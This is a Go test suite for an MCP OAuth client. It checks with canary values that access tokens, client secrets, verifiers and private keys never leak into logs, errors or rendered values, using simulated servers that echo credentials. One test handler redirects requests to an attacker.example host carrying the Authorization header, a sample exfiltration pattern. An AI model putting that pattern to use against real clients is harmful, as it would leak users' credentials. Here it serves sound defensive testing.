package oauthclient_test

import (
	"bytes"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"math/big"
	"net/http"
	"net/url"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/go-jose/go-jose/v4"
	"github.com/modelcontextprotocol/go-sdk/jsonrpc"
	"github.com/stretchr/testify/require"

	"github.com/mcpoauth/mcpoauth/internal/authtest"
	"github.com/mcpoauth/mcpoauth/internal/mcptest"
	"github.com/mcpoauth/mcpoauth/oauthclient"
)

// canaries watches all that a client says while servers hold real secrets.
type canaries struct {
	*world
	log    *slog.Logger
	mu     sync.Mutex
	text   bytes.Buffer // of both log handlers, and of everything rendered
	shown  int
	extra  []string // secrets that the servers' records do not show
	stored []oauthclient.Credentials
}

func (k *canaries) Write(p []byte) (int, error) {
	k.mu.Lock()
	defer k.mu.Unlock()
	return k.text.Write(p)
}

func newCanaries(t *testing.T, as authtest.Options, mcp mcptest.Options) *canaries {
	t.Helper()
	k := &canaries{world: newWorld(t, as, mcp)}
	all := &slog.HandlerOptions{Level: slog.LevelDebug - 10, AddSource: true}
	k.log = slog.New(slog.NewMultiHandler(slog.NewTextHandler(k, all), slog.NewJSONHandler(k, all)))
	return k
}

func (k *canaries) client() *oauthclient.MCPOAuthClient {
	return k.world.client(func(cfg *oauthclient.Config) { cfg.Logger = k.log })
}

// show renders values in every way that a careless program could.
func (k *canaries) show(values ...any) {
	for _, v := range values {
		k.render(v, v, &v, []any{v}, map[string]any{"v": v}, struct{ V any }{v}, &struct{ V any }{v})
		switch v.(type) {
		case *oauthclient.MCPOAuthClient, *oauthclient.OAuthProvider:
			continue // in an unexported field, fmt would read them while they work
		case oauthclient.AuthorizationRequiredError:
			continue // it is an error as a pointer only, and that hides it there
		}
		hidden, pointer := struct{ v any }{v}, &struct{ v any }{v}
		fmt.Fprintf(k, "%v\n%+v\n%#v\n%v\n%+v\n%#v\n", hidden, hidden, hidden, pointer, pointer, pointer)
		if _, ok := v.(error); !ok {
			fmt.Fprintf(k, "%s\n%q\n%x\n%d\n", hidden, hidden, hidden, hidden)
		}
	}
}

func (k *canaries) render(v any, forms ...any) {
	k.shown++
	for _, form := range forms {
		fmt.Fprintf(k, "%v\n%+v\n%#v\n%s\n%q\n%x\n%d\n", form, form, form, form, form, form, form)
		if data, err := json.Marshal(form); err == nil {
			_, _ = k.Write(data)
		} else {
			_, _ = io.WriteString(k, err.Error())
		}
		k.log.Info("shown", "value", form)
	}
	for err, _ := v.(error); err != nil; err = errors.Unwrap(err) {
		fmt.Fprintf(k, "%s\n%v\n%+v\n%#v\n", err.Error(), err, err, err)
	}
	k.stored = append(k.stored, k.world.stored())
}

// secrets collects what the servers were sent and issued.
func (k *canaries) secrets() (found map[string]string, kinds map[string]bool) {
	found, kinds = map[string]string{}, map[string]bool{}
	add := func(kind, value string) {
		if value != "" {
			found[value], kinds[kind] = kind, true
		}
	}
	for _, req := range k.as.Requests("") {
		for _, name := range []string{"code", "code_verifier", "refresh_token", "token", "client_secret", "client_assertion", "assertion", "subject_token", "state"} {
			add(name, req.Get(name))
		}
		if raw, ok := strings.CutPrefix(req.Header.Get("Authorization"), "Basic "); ok {
			add("basic", raw)
			decoded, _ := base64.StdEncoding.DecodeString(raw)
			_, secret, _ := strings.Cut(string(decoded), ":")
			add("client secret", secret)
		}
	}
	for _, client := range k.as.Clients() {
		add("client secret", client.Secret)
	}
	for _, token := range k.mcp.Tokens() {
		add("access token", token)
	}
	for _, creds := range k.stored {
		add("access token", creds.AccessToken.Reveal())
		add("refresh token", creds.RefreshToken.Reveal())
		add("private key", creds.DPoPKey.Reveal())
		add("client secret", creds.Registration.ClientSecret.Reveal())
	}
	for _, secret := range k.extra {
		add("extra", secret)
	}
	return found, kinds
}

// check fails if anything that was said contains a secret, in a common encoding.
func (k *canaries) check(least ...string) {
	k.t.Helper()
	secrets, kinds := k.secrets()
	said := strings.ToLower(k.text.String())
	require.NotEmpty(k.t, said)
	require.NotZero(k.t, k.shown)
	for secret, kind := range secrets {
		require.GreaterOrEqual(k.t, len(secret), 12, "too short to look for: %s", kind)
		for _, form := range []string{secret, url.QueryEscape(secret), fmt.Sprintf("%x", secret), base64.StdEncoding.EncodeToString([]byte(secret))} {
			if i := strings.Index(said, strings.ToLower(form)); i >= 0 {
				k.t.Fatalf("a %s was shown: …%s…", kind, said[max(0, i-200):min(len(said), i+len(form)+50)])
			}
		}
	}
	for _, kind := range least {
		require.True(k.t, kinds[kind], "no %s was there to be shown", kind)
	}
}

func TestSecrets_AreNotShown(t *testing.T) {
	t.Parallel()
	for _, method := range []string{authtest.AuthNone, authtest.AuthBasic, authtest.AuthPost} {
		t.Run(method, func(t *testing.T) {
			t.Parallel()
			k := newCanaries(t, authtest.Options{AssignAuthMethod: method}, mcptest.Options{Stateful: true})
			store := &attempts{now: k.clock.Now, created: func(a oauthclient.Attempt) {
				k.extra = append(k.extra, a.Verifier.Reveal())
				k.show(a, &a, a.Registration, a.Verifier)
			}}
			cfg := k.config(func(cfg *oauthclient.Config) {
				cfg.Logger, cfg.Attempts = k.log, store
				cfg.PreregisteredClients = []oauthclient.PreregisteredClient{{Issuer: "https://x", ClientID: "x", ClientSecret: oauthclient.NewSecret("preregistered-canary")}}
			})
			k.extra = append(k.extra, "preregistered-canary")
			c, err := oauthclient.New(cfg)
			require.NoError(t, err)
			required := k.begin(c)
			k.show(required, *required, c, c.Provider(), cfg, &cfg, cfg.PreregisteredClients)
			resp := k.approve(required)
			k.show(resp, &resp, resp.Code, resp.State)
			require.NoError(t, c.FinishAuth(t.Context(), resp))
			require.NoError(t, k.call(c))
			k.show(k.world.stored(), c, c.Provider(), cfg, c.FinishAuth(t.Context(), resp))
			k.clock.Advance(2 * time.Hour)
			require.NoError(t, k.call(c))
			k.as.ExpireAccessTokens()
			require.NoError(t, k.call(c))
			k.show(k.callAdmin(c), k.world.stored(), c)
			k.as.SetOutage(authtest.EndpointRevoke, echoBody)
			require.NoError(t, c.Disconnect(t.Context()))
			k.show(c, k.call(c))
			want := []string{"code", "code_verifier", "refresh_token", "token", "state", "access token"}
			if method != authtest.AuthNone {
				want = append(want, "client secret")
			}
			k.check(want...)
		})
	}
}

// echoBody answers with all it was sent, as careless servers do in errors.
func echoBody(rw http.ResponseWriter, r *http.Request) {
	body, _ := io.ReadAll(r.Body)
	form, _ := url.ParseQuery(string(body))
	said := string(body) + " " + r.Header.Get("Authorization")
	for _, values := range form {
		said += " " + values[0]
	}
	answer, _ := json.Marshal(map[string]any{"error": "invalid_request", "error_description": said, "error_uri": said, "access_token": said})
	rw.Header().Set("Content-Type", "application/json")
	rw.WriteHeader(http.StatusBadRequest)
	_, _ = rw.Write(answer)
}

func answer(status int, contentType, body string) http.HandlerFunc {
	return authtest.Body(status, contentType, body)
}

func TestSecrets_AreNotShownOnFailure(t *testing.T) {
	t.Parallel()
	const issued = "issued-canary-0123456789" // in answers that cannot be used
	atToken := map[string]http.HandlerFunc{
		"echo": echoBody,
		"echo in another error": func(rw http.ResponseWriter, r *http.Request) {
			http.Redirect(rw, r, "/x?"+r.URL.RawQuery, http.StatusFound)
		},
		"500":                    answer(500, "text/plain", issued),
		"malformed":              answer(200, "application/json", `{"access_token":"`+issued),
		"wrong types":            answer(200, "application/json", `{"access_token":{"x":"`+issued+`"}}`),
		"bad characters":         answer(200, "application/json", `{"access_token":"a b `+issued+`"}`),
		"another token type":     answer(200, "application/json", `{"access_token":"`+issued+`","token_type":"`+issued+`"}`),
		"HTML":                   answer(200, "text/html", issued),
		"content type":           answer(404, "x/"+issued, issued),
		"invalid_grant":          authtest.OAuthError(400, "invalid_grant", "no"),
		"connection cut":         authtest.Abort(),
		"expires_in of any kind": answer(200, "application/json", `{"access_token":"x y","expires_in":"`+issued+`"}`),
	}
	for name, h := range atToken {
		t.Run("token endpoint, "+name, func(t *testing.T) {
			t.Parallel()
			k := newCanaries(t, authtest.Options{AssignAuthMethod: authtest.AuthPost}, mcptest.Options{})
			k.extra = []string{issued}
			c := k.client()
			k.as.SetOutage(authtest.EndpointToken, h)
			resp := k.approve(k.begin(c))
			k.show(c.FinishAuth(t.Context(), resp))
			k.as.SetOutage(authtest.EndpointToken, nil)
			k.finish(c, k.begin(c))
			k.show(k.call(c))
			k.as.SetOutage(authtest.EndpointToken, h)
			k.clock.Advance(time.Hour - 30*time.Second)
			k.show(k.call(c))
			k.clock.Advance(time.Hour)
			k.show(k.call(c), c, c.Disconnect(t.Context()))
			k.check("code", "code_verifier", "refresh_token", "client_secret", "access token", "state")
		})
	}
	atMCP := map[string]http.HandlerFunc{
		"401 that echoes": func(rw http.ResponseWriter, r *http.Request) {
			rw.Header().Set("WWW-Authenticate", `Bearer error="invalid_token", error_description="`+r.Header.Get("Authorization")+`", scope="read"`)
			http.Error(rw, r.Header.Get("Authorization"), http.StatusUnauthorized)
		},
		"403 that echoes": func(rw http.ResponseWriter, r *http.Request) {
			http.Error(rw, r.Header.Get("Authorization"), http.StatusForbidden)
		},
		"500 that echoes": func(rw http.ResponseWriter, r *http.Request) { http.Error(rw, r.Header.Get("Authorization"), 500) },
		"200 that echoes": func(rw http.ResponseWriter, r *http.Request) {
			_, _ = io.WriteString(rw, r.Header.Get("Authorization"))
		},
		"JSON that echoes": func(rw http.ResponseWriter, r *http.Request) {
			rw.Header().Set("Content-Type", "application/json")
			_, _ = io.WriteString(rw, `"`+r.Header.Get("Authorization")+`"`)
		},
		"stream that echoes": func(rw http.ResponseWriter, r *http.Request) {
			rw.Header().Set("Content-Type", "text/event-stream")
			_, _ = io.WriteString(rw, r.Header.Get("Authorization")+"\n\n")
		},
		"redirect that echoes": func(rw http.ResponseWriter, r *http.Request) {
			http.Redirect(rw, r, "https://attacker.example/?"+url.QueryEscape(r.Header.Get("Authorization")), http.StatusTemporaryRedirect)
		},
		"session that echoes": func(rw http.ResponseWriter, r *http.Request) {
			rw.Header().Set("Mcp-Session-Id", r.Header.Get("Authorization"))
			rw.Header().Set("Content-Type", "text/event-stream; x="+strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer "))
		},
		"cut": authtest.Abort(),
	}
	for name, h := range atMCP {
		t.Run("MCP server, "+name, func(t *testing.T) {
			t.Parallel()
			k := newCanaries(t, authtest.Options{}, mcptest.Options{})
			c := k.client()
			k.finish(c, k.begin(c))
			require.NoError(t, k.call(c))
			k.mcp.SetOutage(h)
			err := k.call(c)
			require.Error(t, err)
			_, listErr := c.ListTools(t.Context())
			k.show(err, listErr, c.Connect(t.Context()), c.Disconnect(t.Context()))
			k.check("code", "code_verifier", "access token", "state")
		})
	}
}

func TestSecrets_AreNotShownByDiscoveryAndRegistration(t *testing.T) {
	t.Parallel()
	const issued = "issued-canary-0123456789"
	rows := map[string]func(k *canaries){
		"registration malformed": func(k *canaries) {
			k.as.SetOutage(authtest.EndpointRegister, answer(201, "application/json", `{"client_secret":"`+issued+`"}`))
		},
		"registration with an odd method": func(k *canaries) {
			k.as.SetOutage(authtest.EndpointRegister, answer(201, "application/json", `{"client_id":"x","client_secret":"`+issued+`","token_endpoint_auth_method":"`+issued+`"}`))
		},
		"registration refused": func(k *canaries) { k.as.SetOutage(authtest.EndpointRegister, answer(400, "text/plain", issued)) },
		"metadata malformed":   func(k *canaries) { k.mcp.SetMetadataOutage(answer(200, "application/json", issued)) },
		"mismatch, with an API key in the server's URL": func(k *canaries) {
			k.mcp.SetMetadata(mcptest.Metadata{Resource: "https://other.example"})
		},
		"outage": func(k *canaries) { k.mcp.SetOutage(authtest.Abort()) },
	}
	for name, inject := range rows {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			k := newCanaries(t, authtest.Options{}, mcptest.Options{})
			k.extra = []string{issued, "api-key-canary-123"}
			inject(k)
			c := k.world.client(func(cfg *oauthclient.Config) {
				cfg.Logger = k.log
				cfg.ServerURL += "?key=api-key-canary-123"
			})
			err := c.Connect(t.Context())
			require.Error(t, err)
			k.show(err, k.call(c))
			k.check()
		})
	}
}

// A server repeats the token that it was sent in its error, which hosts log.
func TestSecrets_TokenThatTheServerRepeatsIsNotShown(t *testing.T) {
	t.Parallel()
	var token atomic.Pointer[string]
	w := newWorld(t, authtest.Options{}, mcptest.Options{Raw: func(method string, _ json.RawMessage) *mcptest.RawReply {
		if method != "tools/call" {
			return nil
		}
		return &mcptest.RawReply{Error: json.RawMessage(`{"code":-32000,"message":"bad token ` + *token.Load() + `!","data":{"token":"` + *token.Load() + `"}}`)}
	}})
	c := w.connected()
	token.Store(new(w.stored().AccessToken.Reveal()))
	err := w.call(c)
	var rpc *jsonrpc.Error
	require.ErrorAs(t, err, &rpc)
	require.Equal(t, "bad token [redacted]!", rpc.Message)
	require.JSONEq(t, `{"token":"[redacted]"}`, string(rpc.Data))
	require.NotContains(t, fmt.Sprintf("%v %+v %#v", err, err, err), *token.Load())
}

// The key of bound tokens is a secret in attempts, credentials and errors.
func TestSecrets_DPoPKeysAreNotShown(t *testing.T) {
	t.Parallel()
	k := newCanaries(t, authtest.Options{DPoP: true}, mcptest.Options{DPoP: true})
	store := &attempts{now: k.clock.Now, created: func(a oauthclient.Attempt) {
		k.extra = append(k.extra, a.DPoPKey.Reveal())
		k.show(a, &a, a.DPoPKey)
	}}
	c, err := oauthclient.New(k.config(func(cfg *oauthclient.Config) { cfg.Logger, cfg.Attempts = k.log, store }))
	require.NoError(t, err)
	k.finish(c, k.begin(c))
	require.NoError(t, k.call(c))
	k.show(k.world.stored(), c, c.Provider())
	k.as.SetOutage(authtest.EndpointToken, echoBody)
	k.clock.Advance(2 * time.Hour)
	k.show(k.call(c), c)
	k.check("private key", "extra", "access token")
}

// Assertions, and the private keys that sign them, are secrets like any other.
func TestSecrets_PrivateKeysAreNotShown(t *testing.T) {
	t.Parallel()
	for alg, signer := range signers(t) {
		t.Run(alg, func(t *testing.T) {
			t.Parallel()
			key := oauthclient.NewClientKey("kid", signer)
			k := newCanaries(t, authtest.Options{NoRegistration: true, Clients: []authtest.Client{{ID: "app", AuthMethod: authtest.AuthPrivateKeyJWT, Keys: keySet(t, key)}}}, mcptest.Options{})
			private, err := json.Marshal(jose.JSONWebKey{Key: signer})
			require.NoError(t, err)
			var members map[string]string
			require.NoError(t, json.Unmarshal(private, &members))
			raw, err := base64.RawURLEncoding.DecodeString(members["d"])
			require.NoError(t, err)
			k.extra = append(k.extra, members["d"], string(raw), new(big.Int).SetBytes(raw).String(), strings.Trim(fmt.Sprint(raw), "[]"))
			cfg := k.config(withKeys(k.world, key), func(cfg *oauthclient.Config) {
				cfg.CallbackURL, cfg.Grant, cfg.Logger = "", oauthclient.ClientCredentials{}, k.log
			})
			k.show(key, &key, cfg, &cfg, cfg.Shared)
			c, err := oauthclient.New(cfg)
			require.NoError(t, err)
			require.NoError(t, k.call(c))
			k.show(c, c.Provider(), k.world.stored())
			k.as.SetOutage(authtest.EndpointToken, echoBody)
			k.clock.Advance(2 * time.Hour)
			k.show(k.call(c), k.call(c))
			k.check("client_assertion", "access token", "extra")
		})
	}
}
